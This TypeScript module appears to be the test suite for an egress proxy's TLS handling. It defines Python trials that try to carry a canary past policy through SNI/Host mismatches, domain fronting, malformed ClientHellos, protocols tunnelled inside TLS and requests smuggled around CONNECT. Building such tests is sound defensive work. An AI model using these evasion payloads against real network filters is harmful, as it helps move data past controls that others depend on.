/**
 * Attacks by TLS: another name inside than outside, and a beginning with two readings.
 *
 * @module
 */

import type { WantedEvent } from "../../support/events.ts";
import type { Attack, Trial } from "../support/attack.ts";
import { OPEN } from "./http_trials.ts";
import { ALL_MODES, connection, pythonTrial, request } from "./scripts.ts";

const HOST = "api.example.com";
const GET = `b"GET /open/x?q=" + CANARY.encode() + b" HTTP/1.1\\r\\nHost: `;
const END = `\\r\\nConnection: close\\r\\n\\r\\n"`;

/** Returns Python: an allowed request, by the name of a host. */
function ask(host: string): string {
  return `${GET}${host}${END}`;
}

/** No answer of a server: an alert, a refusal, or silence. */
const NO_ANSWER = /^connect 200\n(?![^]*HTTP\/1\.1 200)/;

/** An alert of TLS, or the end. */
const NO_HELLO = /^connect 200\nanswer (15[0-9a-f]*|485454502f312e31203430[0-9a-f]*|0a3c\w+|)?\s*$/;

const MISMATCH = connection(HOST, 443, "server_name_mismatch");
const UNSUPPORTED = connection(HOST, 443, "unsupported_protocol");

interface Case {
  readonly id: string;
  readonly title: string;
  readonly code: string;
  readonly event: WantedEvent;
  readonly shows?: RegExp;
  readonly twin?: Trial;
  readonly accepted?: string;
}

/** Names that differ between tunnel, TLS and request. */
const NAMES: readonly Case[] = [
  {
    id: "tls-sni-other",
    title: "a server name that no rule allows",
    code: `send(tls(tunnel("${HOST}:443"), "other.example.com"), ${ask("other.example.com")})`,
    event: MISMATCH,
  },
  {
    id: "tls-sni-allowed",
    title: "the server name of another allowed host, where more is allowed",
    code: `send(tls(tunnel("${HOST}:443"), "full.example.com"), ${ask("full.example.com")})`,
    event: MISMATCH,
  },
  {
    id: "tls-sni-parent",
    title: "the server name of the domain above",
    code: `send(tls(tunnel("${HOST}:443"), "example.com"), ${ask("example.com")})`,
    event: MISMATCH,
  },
  {
    id: "tls-sni-none",
    title: "no server name, and another Host",
    code: `send(tls(tunnel("${HOST}:443"), None, verify=False), ${ask("other.example.com")})`,
    event: request(HOST, 443, "request_authority_mismatch"),
    twin: pythonTrial(
      `send(tls(tunnel("${HOST}:443"), None, verify=False), ${ask(HOST)})`,
      /HTTP\/1\.1 200 /,
    ),
  },
  {
    id: "tls-host-other",
    title: "the right server name, and Host of another allowed host",
    code: `send(inside("${HOST}"), ${ask("full.example.com")})`,
    event: request(HOST, 443, "request_authority_mismatch"),
  },
  {
    id: "tls-certificate-wrong",
    title: "a server with the certificate of another name",
    code: `send(inside("wrong.example.com"), ${ask("wrong.example.com")})`,
    event: request("wrong.example.com", 443, "upstream_tls_failed"),
    shows: NO_ANSWER,
    twin: pythonTrial(
      `send(inside("full.example.com"), ${ask("full.example.com")})`,
      /HTTP\/1\.1 200 /,
    ),
  },
  {
    id: "tls-fronting-opaque",
    title: "another server name and Host over an endpoint that is not inspected",
    code: `send(tls(tunnel("skip.example.com:443"), "other.example.com", verify=False), ${
      ask("other.example.com")
    })`,
    event: connection("skip.example.com", 443, undefined, { verdict: "allowed" }),
    shows: NO_ANSWER,
    twin: pythonTrial(
      `send(tls(tunnel("skip.example.com:443"), "skip.example.com", verify=False), ${
        ask("skip.example.com")
      })`,
      /HTTP\/1\.1 200 /,
    ),
    accepted: "Endpoints that are not inspected",
  },
];

/** Beginnings of TLS that not every reader would read alike. */
const HELLOS: readonly (readonly [
  id: string,
  title: string,
  code: string,
  event?: WantedEvent,
])[] = [
  [
    "sni-twice",
    "two extensions that name servers",
    `hello(names(b"${HOST}"), names(b"other.example.com"), *BASICS)`,
  ],
  [
    "sni-two-names",
    "two names in one extension",
    `hello(names(b"${HOST}", b"other.example.com"), *BASICS)`,
  ],
  ["sni-empty", "an empty server name", 'hello(names(b""), *BASICS)'],
  [
    "sni-nul",
    "a zero byte in the server name",
    `hello(names(b"${HOST}\\0.other.example.com"), *BASICS)`,
  ],
  ["sni-dot", "a server name with a dot at its end", `hello(names(b"${HOST}."), *BASICS)`],
  ["sni-address", "an address as server name", 'hello(names(b"203.0.113.11"), *BASICS)', MISMATCH],
  [
    "sni-type",
    "a server name of an unknown kind",
    `hello(names(b"other.example.com", kind=7), *BASICS)`,
  ],
  [
    "sni-non-ascii",
    "a server name beyond ASCII",
    'hello(names(b"\\xc3\\xa4pi.example.com"), *BASICS)',
  ],
  ["sni-long", "a server name of a thousand letters", 'hello(names(b"a" * 1000), *BASICS)'],
  [
    "sni-cut",
    "a server name longer than its extension",
    '(lambda h: h)(hello((0, b"\\0\\x20\\0\\0\\x1dapi"), *BASICS))',
  ],
  [
    "ech",
    "an encrypted hello behind another server name",
    `hello(names(b"other.example.com"), (0xfe0d, b"\\0" * 64), *BASICS)`,
    MISMATCH,
  ],
  [
    "records",
    "another server name, in pieces of one byte",
    `b"".join(b"\\x16\\3\\1\\0\\1" + bytes([x]) for x in hello(names(b"other.example.com"), *BASICS)[5:])`,
    MISMATCH,
  ],
  [
    "empty-record",
    "an empty record first",
    `b"\\x16\\3\\1\\0\\0" + hello(names(b"other.example.com"), *BASICS)`,
  ],
  ["no-hello", "another message than a hello", 'b"\\x16\\3\\3\\0\\4\\2\\0\\0\\0"'],
  [
    "huge",
    "a hello of a megabyte",
    'b"\\x16\\3\\1\\x40\\0\\1\\x10\\0\\0" + b"\\3\\3" + b"a" * 1000000',
  ],
  [
    "trailing",
    "bytes after the extensions",
    `(lambda h: h[:3] + struct.pack(">H", len(h) - 3) + b"\\1" + struct.pack(">I", len(h) - 7)[1:] + h[9:] + b"junk"[:2])(hello(names(b"${HOST}"), *BASICS))`,
  ],
  ["ssl2", "a hello of SSL 2", 'b"\\x80\\x2e\\1\\3\\1\\0\\x15\\0\\0\\0\\x10" + b"\\0" * 37'],
  ["alert", "an alert first", 'b"\\x15\\3\\3\\0\\2\\2\\x28"'],
  ["data", "data without a handshake", 'b"\\x17\\3\\3\\0\\x26" + CANARY.encode()'],
  ["binary", "bytes that are neither TLS nor HTTP", 'b"\\0\\1\\2\\3" + CANARY.encode()'],
  [
    "ssh",
    "SSH",
    'b"SSH-2.0-x " + CANARY.encode() + b"\\r\\n\\r\\n"',
    request(HOST, 443, "invalid_request"),
  ],
  ["socks", "SOCKS", 'b"\\5\\1\\0" + CANARY.encode()'],
  [
    "h2-plain",
    "HTTP/2 without TLS",
    'b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + CANARY.encode()',
  ],
  ["leading-blank", "a line end, and another protocol", 'b"\\r\\n" + CANARY.encode()'],
];

const HELLO_CASES = HELLOS.map(([id, title, code, event = UNSUPPORTED]): Case => ({
  id: `tls-${id}`,
  title,
  code: `speak(${code})`,
  event,
  shows: NO_HELLO,
}));

const LAYERS: readonly Case[] = [
  {
    id: "tls-in-tls",
    title: "TLS inside of TLS, to another host",
    code: `outer = inside("${HOST}")
outer.sendall(hello(names(b"other.example.com"), *BASICS) + CANARY.encode())
show(rest(outer))`,
    event: request(HOST, 443, "invalid_request"),
  },
  {
    id: "tls-connect-in-tls",
    title: "a tunnel inside of TLS",
    code:
      `send(inside("${HOST}"), b"CONNECT other.example.com:443 HTTP/1.1\\r\\nHost: other.example.com:443\\r\\n\\r\\n" + CANARY.encode())`,
    event: request(HOST, 443, "invalid_request"),
  },
  {
    id: "tls-plain-http",
    title: "plain HTTP where TLS is expected, to another Host",
    code: `send(tunnel("${HOST}:443"), ${ask("other.example.com:443")})`,
    event: request(HOST, 443, "request_authority_mismatch"),
  },
  {
    id: "tls-plain-forbidden",
    title: "plain HTTP where TLS is expected, to a path that no rule allows",
    code:
      `send(tunnel("${HOST}:443"), b"GET /secret?q=" + CANARY.encode() + b" HTTP/1.1\\r\\nHost: ${HOST}:443\\r\\n\\r\\n")`,
    event: request(HOST, 443, "request_not_allowed", { path: "/secret" }),
  },
  {
    id: "tls-alpn-h2",
    title: "HTTP/2 alone by ALPN, and its preface",
    code:
      `send(tls(tunnel("${HOST}:443"), "${HOST}", alpn=["h2"]), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + CANARY.encode())`,
    event: connection(HOST, 443, "tls_termination_unavailable"),
  },
  {
    id: "tls-bytes-before",
    title: "a forbidden request before TLS begins",
    code: `sock = tunnel("${HOST}:443")
sock.sendall(b"GET /secret?q=" + CANARY.encode() + b" HTTP/1.1\\r\\nHost: ${HOST}:443\\r\\n\\r\\n")
send(tls(sock, "${HOST}"), ${ask(HOST)})`,
    event: request(HOST, 443, "request_not_allowed", { path: "/secret" }),
  },
  {
    id: "tls-bytes-with-connect",
    title: "a forbidden request in one write with CONNECT",
    code: `sock = raw()
sock.sendall(b"CONNECT ${HOST}:443 HTTP/1.1\\r\\nHost: ${HOST}:443\\r\\n\\r\\nGET /secret?q=" + CANARY.encode() + b" HTTP/1.1\\r\\nHost: ${HOST}:443\\r\\n\\r\\n")
print("connect 200")
show(rest(sock))`,
    event: request(HOST, 443, "request_not_allowed", { path: "/secret" }),
    shows: /^connect 200\nHTTP\/1\.1 200 Connection[^]*HTTP\/1\.1 403 (?![^]*X-Origin)/,
  },
  {
    id: "tls-split",
    title: "another server name, byte by byte",
    code: `sock = tunnel("${HOST}:443", 4)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for each in hello(names(b"other.example.com"), *BASICS):
  sock.sendall(bytes([each]))
print("answer", rest(sock).hex())`,
    event: MISMATCH,
    shows: NO_HELLO,
  },
];

const AUDITABLE: ReadonlySet<string> = new Set([
  "tls-bytes-before",
  "tls-bytes-with-connect",
  "tls-plain-forbidden",
]);

export const TLS_ATTACKS: readonly Attack[] = [...NAMES, ...HELLO_CASES, ...LAYERS].map(
  ({ id, title, code, event, shows = NO_ANSWER, twin = OPEN, accepted }): Attack => ({
    id,
    title,
    area: "tls",
    modes: ALL_MODES,
    attack: pythonTrial(code, shows),
    twin,
    event,
    ...AUDITABLE.has(id) && { isAuditable: true },
    ...accepted !== undefined && { accepted },
  }),
);
